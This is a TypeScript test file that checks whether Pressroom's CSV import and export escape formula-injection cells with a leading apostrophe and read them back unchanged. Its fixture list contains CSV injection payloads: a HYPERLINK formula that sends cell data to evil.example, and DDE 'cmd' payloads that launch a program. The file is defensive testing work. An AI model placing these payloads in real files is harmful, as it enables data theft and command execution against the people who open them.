// CSV formula injection (OWASP "CSV Injection"): every CSV Pressroom writes leaves a cell that a
// spreadsheet would run as a formula inert, and import reads it back as the text it was.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { testWorkspace } from '../support/workspace';
import { csvFiles } from '../support/csv-files';
import { badRowsOf } from '../support/uploads';
import { call } from '../../main/core/operations';

const { folder, fixture } = csvFiles('formulas');
const workspace = () => testWorkspace({ now: () => Date.UTC(2026, 10, 22, 12) });

/** Cells a spreadsheet would take for a formula (or, for tab and CR, strip and then run). */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-5',
];
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** The file's cells as a spreadsheet sees them: quotes removed, nothing else. */
const cellsOf = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();

describe('formula cells', () => {
  it('are written inert in exports, and import again unchanged', async () => {
    const pressroom = workspace();
    const products = [
      'sku,name,price,currency,description,stock',
      ...FORMULAS.map((cell, i) => `${Papa.unparse([[`F${i}`, cell, '3.50', 'EUR', cell, 2]])}`),
    ].join('\n');
    expect(
      await call(pressroom, 'importFile', { kind: 'products', path: fixture(`${products}\n`) }),
    ).toMatchObject({ inserted: FORMULAS.length, invalid: 0 });
    const posts = ['text', ...FORMULAS.map((cell) => Papa.unparse([[cell]]))].join('\n');
    expect(
      await call(pressroom, 'importFile', { kind: 'posts', path: fixture(`${posts}\n`) }),
    ).toMatchObject({ inserted: FORMULAS.length, invalid: 0 });
    expect(pressroom.store.products.list().map((product) => product.name)).toEqual(FORMULAS);

    for (const kind of ['products', 'posts'] as const) {
      const path = join(folder, `export-${kind}.csv`);
      await call(pressroom, 'exportFile', { kind, path, bom: true });
      const cells = cellsOf(readFileSync(path, 'utf8'));
      expect(cells.filter(runsAsFormula)).toEqual([]);
      // Prefixed with a single quote, as OWASP describes: a spreadsheet shows it as text.
      for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
      // The price and stock are ours, written as plain non-negative numbers: never prefixed.
      if (kind === 'products') expect(cells).toContain('3.50');
      expect(await call(pressroom, 'importFile', { kind, path })).toMatchObject({
        rows: FORMULAS.length,
        inserted: 0,
        updated: 0,
        unchanged: FORMULAS.length,
        invalid: 0,
      });
      const text = await call(pressroom, 'exportText', { kind });
      expect(cellsOf(text.csv).filter(runsAsFormula)).toEqual([]);
    }
    expect(pressroom.store.posts.list().map((post) => post.text)).toEqual(FORMULAS);
  });

  it('are written inert in the bad-rows file, and read back as they were', async () => {
    const pressroom = workspace();
    const path = fixture('sku,name,price\n=cmd,\tTab,-4\n@x,\rCR,=1+1\n');
    const result = await call(pressroom, 'importFile', { kind: 'products', path, onError: 'skip' });
    expect(result.invalid).toBe(2);
    const badRows = await badRowsOf(pressroom, result);
    const cells = cellsOf(badRows);
    expect(cells.filter(runsAsFormula)).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining(["'=cmd", "'\tTab", "'-4", "'@x", "'\rCR", "'=1+1"]),
    );
    // Fixed in a spreadsheet and imported again, the cells are read as the original text.
    const fixed = fixture(badRows.replace("'-4", '4').replace("'=1+1", '5'));
    const again = await call(pressroom, 'importFile', { kind: 'products', path: fixed });
    expect(again).toMatchObject({ inserted: 2, invalid: 0 });
    expect(pressroom.store.products.list().map((p) => [p.sku, p.name])).toEqual([
      ['=cmd', 'Tab'],
      ['@x', 'CR'],
    ]);
  });

  it('keep a cell’s own leading apostrophe: only one before a formula start is the escape', async () => {
    const pressroom = workspace();
    const own = ["'Tis the season", "'90s classics", "''=twice", "'"];
    const posts = ['text', ...own.map((cell) => Papa.unparse([[cell]]))].join('\n');
    expect(
      await call(pressroom, 'importFile', { kind: 'posts', path: fixture(`${posts}\n`) }),
    ).toMatchObject({ inserted: own.length, invalid: 0 });
    expect(pressroom.store.posts.list().map((post) => post.text)).toEqual(own);
  });
});
